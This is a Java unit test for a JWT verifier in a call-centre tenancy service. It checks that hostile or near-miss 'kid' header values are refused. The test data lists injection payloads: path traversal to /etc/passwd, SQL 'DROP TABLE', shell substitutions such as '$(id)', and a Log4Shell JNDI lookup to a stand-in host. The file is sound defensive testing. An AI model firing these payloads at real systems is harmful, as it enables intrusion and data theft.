package ai.callcenter.tenancy.http.token;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import ai.callcenter.tenancy.http.token.InvalidTokenException.Reason;
import java.util.List;
import java.util.Locale;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A {@code kid} is looked up in a fixed map and is nothing else: no path, no query, no address. */
class HostileKeyIdTest extends TokenFixture {
    private static final String EMPTY_SECRET = "\0";

    private final RsaKeys rsa = RsaKeys.ofPem(Forge.pem(Forge.RSA));
    private final List<TokenKeys> all = List.of(secretOnly, TokenKeys.of(null, rsa), TokenKeys.of(secret, rsa));

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "null",
                "0",
                "/dev/null",
                "../../../../../../dev/null",
                "..\\\\..\\\\windows\\\\win.ini",
                "%2e%2e%2fetc%2fpasswd",
                "file:///etc/passwd",
                "https://evil.example/key",
                "//evil.example/key",
                "' UNION SELECT 'secret' -- ",
                "x'; DROP TABLE tenancy.users; --",
                "$(id)",
                "`id`",
                "|id",
                "${jndi:ldap://evil.example/a}",
                "{{7*7}}",
                "__proto__",
                "\\u0000",
                "\\ud800",
                "\\u202e",
                "\\ufeff",
                "K\\u0131d"
            })
    void isNotFound(String kid) {
        refusedEverywhere(kid);
    }

    @Test
    void isNotFoundHoweverLong() {
        refusedEverywhere("k".repeat(1_500));
    }

    /** Signed with each key that there is, and with secrets that a file or a row of no content would give. */
    private void refusedEverywhere(String kid) {
        String rs = "{\"alg\":\"RS256\",\"kid\":\"%s\"}".formatted(kid);
        String hs = "{\"alg\":\"HS256\",\"kid\":\"%s\"}".formatted(kid);
        byte[] claims = json(identityClaims()).getBytes(UTF_8);
        List<String> tokens = List.of(
                Forge.rs256(Forge.RSA.getPrivate(), rs, json(identityClaims())),
                Forge.hs256(hs, json(identityClaims())),
                Forge.hs256(EMPTY_SECRET.getBytes(UTF_8), hs.getBytes(UTF_8), claims),
                Forge.hs256("secret".getBytes(UTF_8), hs.getBytes(UTF_8), claims));
        for (TokenKeys keys : all) {
            for (String token : tokens) {
                assertThat(refusal(new TokenVerifier(settings, keys), token).reason())
                        .as(kid)
                        .isIn(Reason.KEY, Reason.ALGORITHM);
            }
        }
    }

    @Test
    void countsToTheLetter() {
        String kid = Objects.requireNonNull(rsa.signerId());
        TokenVerifier verifier = new TokenVerifier(settings, TokenKeys.of(null, rsa));
        assertThat(verifier.verify(withKid(kid))).isInstanceOf(IdentityToken.class);
        for (String near : new String[] {
            kid + " ",
            " " + kid,
            kid + "=",
            kid + "\\u0000",
            kid.toUpperCase(Locale.ROOT),
            kid.toLowerCase(Locale.ROOT),
            kid.substring(1),
            kid + kid,
            new StringBuilder(kid).reverse().toString()
        }) {
            assertThat(refusal(verifier, withKid(near)).reason()).as(near).isEqualTo(Reason.KEY);
        }
    }

    @Test
    void ofAnotherKindsKeyIsNoKeyHere() {
        TokenVerifier both = new TokenVerifier(settings, TokenKeys.of(secret, rsa));
        String kid = rsa.signerId();
        String identity = Forge.hs256("{\"alg\":\"HS256\",\"kid\":\"%s\"}".formatted(kid), json(identityClaims()));
        assertThat(refusal(both, identity).reason()).isEqualTo(Reason.KEY);
        String tenant = Forge.hs256(
                "{\"alg\":\"HS256\",\"typ\":\"tenancy+jwt\",\"kid\":\"%s\"}".formatted(kid), json(tenantClaims()));
        assertThat(refusal(both, tenant).reason()).isEqualTo(Reason.ALGORITHM);
    }

    private String withKid(String kid) {
        return Forge.rs256(
                Forge.RSA.getPrivate(), "{\"alg\":\"RS256\",\"kid\":\"%s\"}".formatted(kid), json(identityClaims()));
    }
}
